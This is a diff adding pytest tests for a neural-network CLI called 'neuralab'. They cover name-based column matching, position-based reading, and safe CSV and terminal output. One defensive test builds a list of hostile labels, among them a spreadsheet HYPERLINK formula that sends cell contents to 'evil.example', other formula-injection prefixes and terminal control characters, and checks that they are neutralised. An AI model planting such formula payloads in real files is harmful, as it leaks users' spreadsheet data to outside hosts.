@@ -1,5 +1,6 @@
 """The `neuralab` command, run in-process through ``main(argv)`` (and once as a subprocess)."""
 
+import csv
 import json
 import subprocess
 import sys
@@ -479,3 +480,147 @@ def test_a_regression_csv_says_train_trains_classifiers(tmp_path, capsys, target
 def test_lab_errors_carry_the_prefix(capsys):
     code, _, err = _run(capsys, "lab", "run", "bogus")
     assert code == 2 and err.startswith("neuralab: error: unknown experiment 'bogus'")
+
+
+# ------------------------------------------------- columns by name (issue 18.2), safe text (22.4)
+@pytest.fixture(scope="module")
+def iris_model(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("iris")
+    data, _ = _iris_csv(folder)
+    assert main(["train", "--data", str(data), "--label", "species", "--hidden", "8",
+                 "--epochs", "5", "--out-dir", str(folder), "--name", "m"]) == 0
+    X, y = nl.data.load_csv(data, label="species", encode_labels=False)
+    return folder / "m" / "model.safetensors", X, y
+
+
+def _probabilities(out):
+    return np.array([[float(v) for v in line.split(",")[1:]] for line in out.splitlines()[1:]])
+
+
+def test_predict_takes_columns_by_name_in_any_order(iris_model, tmp_path, capsys):
+    path, X, _ = iris_model
+    model = nl.load(path)
+    order = [3, 1, 2, 0]
+    names = ["sepal_length", "sepal_width", "petal_length", "petal_width"]
+    shuffled = tmp_path / "shuffled.csv"
+    np.savetxt(shuffled, np.c_[X[:, order], np.arange(len(X))], delimiter=",", comments="",
+               header=",".join([names[j] for j in order] + ["row_id"]), fmt="%g")
+    code, out, err = _run(capsys, "predict", str(path), str(shuffled))
+    assert code == 0 and err == ""
+    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X), atol=1e-5)
+    # the same rule for evaluate, and for a DataFrame in Python
+    table = tmp_path / "table.csv"
+    y = model.predict(X)
+    with open(table, "w") as f:
+        f.write("species," + ",".join(names[j] for j in order) + "\n")
+        for label, row in zip(y.tolist(), X[:, order].tolist(), strict=True):
+            f.write(label + "," + ",".join(map(repr, row)) + "\n")
+    code, out, _ = _run(capsys, "evaluate", str(path), "--data", str(table))
+    assert code == 0 and _accuracy(out) == 1.0
+    pandas = pytest.importorskip("pandas")
+    frame = pandas.DataFrame(X[:, order], columns=[names[j] for j in order])
+    np.testing.assert_allclose(model.predict_proba(frame), model.predict_proba(X))
+
+
+def test_predict_refuses_a_header_without_the_models_columns(iris_model, tmp_path, capsys):
+    """Issue 18.2: three names match, one renamed, order changed -> exit 2, not exit 0."""
+    path, X, _ = iris_model
+    model = nl.load(path)
+    renamed = tmp_path / "renamed.csv"
+    np.savetxt(renamed, X[:, [3, 1, 2, 0]], delimiter=",", comments="", fmt="%g",
+               header="petal_width,sepal_width,petal_length,SL")
+    for command in (["predict", str(path), str(renamed)],
+                    ["evaluate", str(path), "--data", str(renamed), "--label", "0"]):
+        code, out, err = _run(capsys, *command)
+        assert code == 2 and out == ""
+        assert "lacks the model's column" in err and "'sepal_length'" in err
+        assert "'SL'" in err and "--by-position" in err
+    # the choice to use positions is explicit
+    code, out, _ = _run(capsys, "predict", str(path), str(renamed), "--by-position")
+    assert code == 0
+    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X[:, [3, 1, 2, 0]]),
+                               atol=1e-5)
+    pandas = pytest.importorskip("pandas")
+    frame = pandas.DataFrame(X[:, [3, 1, 2, 0]],
+                             columns=["petal_width", "sepal_width", "petal_length", "SL"])
+    with pytest.raises(ValueError, match="lacks the model's column 'sepal_length'.*'SL'"):
+        model.predict(frame)
+    np.testing.assert_allclose(model.predict_proba(frame.to_numpy()),
+                               model.predict_proba(X[:, [3, 1, 2, 0]]))
+
+
+def test_a_file_without_a_header_is_read_by_position(iris_model, tmp_path, capsys):
+    path, X, y = iris_model
+    model = nl.load(path)
+    bare = tmp_path / "bare.csv"
+    np.savetxt(bare, X, delimiter=",", fmt="%.17g")
+    code, out, _ = _run(capsys, "predict", str(path), str(bare))
+    assert code == 0 and len(out.splitlines()) == 1 + len(X)       # no row taken as a header
+    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X), atol=1e-5)
+    labelled = tmp_path / "bare_labelled.csv"
+    with open(labelled, "w") as f:
+        for row, label in zip(X.tolist(), y.tolist(), strict=True):
+            f.write(",".join(map(repr, row)) + f",{label}\n")
+    code, out, _ = _run(capsys, "evaluate", str(path), "--data", str(labelled))
+    assert code == 0 and f"{len(X)} samples" in out
+    assert _accuracy(out) == pytest.approx(nl.evaluate(model, X, y)["accuracy"], abs=5e-5)
+
+
+def _text_label_model(folder, labels):
+    """A model trained on a CSV whose text labels are ``labels`` (clusters far apart)."""
+    rng = np.random.default_rng(0)
+    path = folder / "labels.csv"
+    with open(path, "w", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["a", "b", "label"])
+        for k, label in enumerate(labels):
+            for row in rng.normal(loc=6 * k, size=(12, 2)):
+                writer.writerow([*row.tolist(), label])
+    assert main(["train", "--data", str(path), "--label", "label", "--hidden", "8",
+                 "--epochs", "30", "--lr", "0.03", "--out-dir", str(folder), "--name",
+                 "labels"]) == 0
+    return folder / "labels" / "model.safetensors", path
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2)', "@SUM(1+1)", "+1+2", "-2+3",
+           "line\rbreak", "red\x1b[31m\x00!"]
+
+
+def test_predict_csv_cells_cannot_become_formulas_and_rows_round_trip(tmp_path, capsys):
+    path, data = _text_label_model(tmp_path, HOSTILE)
+    capsys.readouterr()
+    out_csv = tmp_path / "pred.csv"
+    code, _, _ = _run(capsys, "predict", str(path), str(data), "--output", str(out_csv))
+    assert code == 0
+    with open(out_csv, newline="") as f:
+        rows = list(csv.reader(f))
+    n = sum(1 for _ in nl.data.load_csv(data, label="label", encode_labels=False)[1])
+    assert len(rows) == 1 + n                      # the CR label did not split a row
+    cells = {row[0] for row in rows[1:]}
+    assert cells <= {"'" + label if label[0] in "=+-@" else label for label in HOSTILE}
+    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A2)" in cells and len(cells) >= 4
+    assert rows[0] == ["prediction", *(f"p_{label}" for label in sorted(HOSTILE))]
+    assert all(not c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
+    # on the terminal, control characters are shown escaped
+    code, out, _ = _run(capsys, "predict", str(path), str(data))
+    assert code == 0 and "\x1b" not in out and "\x00" not in out and "\r" not in out
+    assert "red\\x1b[31m\\x00!" in out and "line\\rbreak" in out
+
+
+def test_numeric_labels_stay_numbers_in_the_predict_csv(tmp_path, capsys):
+    rng = np.random.default_rng(1)
+    path = tmp_path / "signs.csv"
+    X = rng.normal(size=(60, 2))
+    y = np.where(X[:, 0] > 0, 1, -1)
+    np.savetxt(path, np.c_[X, y], delimiter=",", header="a,b,y", comments="",
+               fmt=["%.6f", "%.6f", "%d"])
+    assert main(["train", "--data", str(path), "--epochs", "3", "--hidden", "4",
+                 "--out-dir", str(tmp_path), "--name", "signs"]) == 0
+    capsys.readouterr()
+    code, out, _ = _run(capsys, "predict", str(tmp_path / "signs" / "model.safetensors"),
+                        str(path))
+    assert code == 0
+    lines = out.splitlines()
+    assert lines[0] == "prediction,p_-1,p_1"
+    assert {line.split(",")[0] for line in lines[1:]} <= {"-1", "1"}
+    assert "'" not in out
